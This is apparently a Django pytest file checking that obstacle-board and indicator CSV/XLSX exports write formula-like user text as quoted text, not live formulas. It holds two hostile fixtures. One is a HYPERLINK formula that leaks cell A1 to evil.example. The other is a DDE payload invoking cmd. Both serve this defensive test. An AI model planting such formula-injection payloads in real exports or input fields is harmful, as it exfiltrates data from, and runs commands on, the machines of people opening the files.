"""Text someone typed is never exported as a live formula: obstacle board XLSX, indicator CSV
and XLSX write cells starting with = + - @ (or tab, CR) as text."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client
from openpyxl import load_workbook

from provind.indicators.models import Source
from provind.lib.xlsx import csv_safe
from tests.indicators.factories import add
from tests.projects.factories import make_obstacle, make_project

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"


def _cells(content: bytes) -> list[tuple[object, str, bool]]:
    """(value, type, quote prefix) of every cell: a formula-like text must be a text cell ("s")
    with Excel's quote prefix, never a formula ("f")."""
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [(c.value, c.data_type, bool(c.quotePrefix)) for row in sheet.iter_rows() for c in row]


def test_the_helper_quotes_only_text_that_would_run() -> None:
    assert csv_safe(HYPERLINK) == "'" + HYPERLINK
    assert csv_safe("@SUM(1+1)") == "'@SUM(1+1)"
    assert csv_safe("\t=1") == "'\t=1"
    assert csv_safe("Sở Công Thương") == "Sở Công Thương"
    assert csv_safe(-4.81) == -4.81


def test_the_obstacle_board_xlsx_writes_a_formula_as_text(client: Client, cast: dict[str, User]) -> None:
    make_obstacle(make_project(), description=HYPERLINK, raised="2025-08-01", deadline="2025-08-15")
    client.force_login(cast["viewer"])
    cells = _cells(client.get("/projects/obstacles.xlsx", {"on": "2025-08-20"}).content)
    assert (HYPERLINK, "s", True) in cells
    assert all(kind != "f" for _value, kind, _quoted in cells)


def test_the_indicator_csv_and_xlsx_write_formulas_as_text(client: Client) -> None:
    obs = add("iip", "19", "2024-12", "-4.81")
    obs.source = Source.objects.create(title=DDE, number="+1+1", url="https://example.invalid/")
    obs.save()
    response = client.get("/indicators/iip/", {"unit": "19", "format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["source_title"] == "'" + DDE
    assert rows[0]["source_number"] == "'+1+1"
    assert float(rows[0]["value"]) == -4.81  # a number stays a number, unquoted
    cells = _cells(client.get("/indicators/iip/", {"unit": "19", "format": "xlsx"}).content)
    assert (DDE, "s", True) in cells
    assert all(kind != "f" for _value, kind, _quoted in cells)
